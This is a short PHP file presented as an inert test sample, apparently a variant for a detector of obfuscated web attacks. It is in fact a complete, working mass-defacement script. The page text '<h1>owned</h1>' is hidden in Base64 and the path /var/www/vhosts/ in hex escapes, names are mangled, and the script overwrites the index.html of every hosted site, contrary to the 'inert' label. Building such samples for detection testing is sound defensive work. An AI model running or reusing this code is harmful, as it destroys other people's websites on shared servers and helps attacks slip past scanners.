<?php
// test sample (inert): the same walk with the page packed in Base64, the base path spelled in hex
// escapes and the names mangled; the index path is still joined to each listed site
$_0 = base64_decode('PGgxPm93bmVkPC9oMT4=');
$_1 = "\x2f\x76\x61\x72\x2f\x77\x77\x77\x2f\x76\x68\x6f\x73\x74\x73\x2f";
foreach (glob($_1 . '*', GLOB_ONLYDIR) as $_d) {
    $_f = @fopen("$_d/httpdocs/index.html", 'w');
    if ($_f) { fwrite($_f, $_0); fclose($_f); }
}
